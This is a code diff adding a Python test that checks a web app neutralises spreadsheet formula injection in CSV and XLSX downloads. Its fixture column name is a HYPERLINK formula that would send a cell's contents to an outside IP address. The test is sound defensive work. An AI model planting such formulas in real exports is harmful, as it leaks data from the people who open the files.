@@ -18,6 +18,17 @@ def version(uploaded):
     return uploaded(frame.to_csv(index=False).encode())
 
 
+def test_a_column_name_that_is_a_formula_is_neutralised_in_csv_and_xlsx(api, uploaded):
+    frame = pd.DataFrame({'=HYPERLINK("http://203.0.113.7/?"&A2,"x")': ["a", "b"], "n": [1, 2]})
+    version = uploaded(frame.to_csv(index=False).encode())
+    response = api("alice", "get", f"/api/v1/versions/{version.pk}/download?format=csv")
+    header = next(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert header[0].startswith("'=") and header[1] == "n"
+    response = api("alice", "get", f"/api/v1/versions/{version.pk}/download?format=xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    assert str(sheet.cell(row=1, column=1).value).startswith("'=") and sheet.cell(row=1, column=1).data_type == "s"
+
+
 def test_csv_download_neutralises_formulas(api, version):
     response = api("alice", "get", f"/api/v1/versions/{version.pk}/download?format=csv")
     assert response["Content-Disposition"].startswith("attachment;")
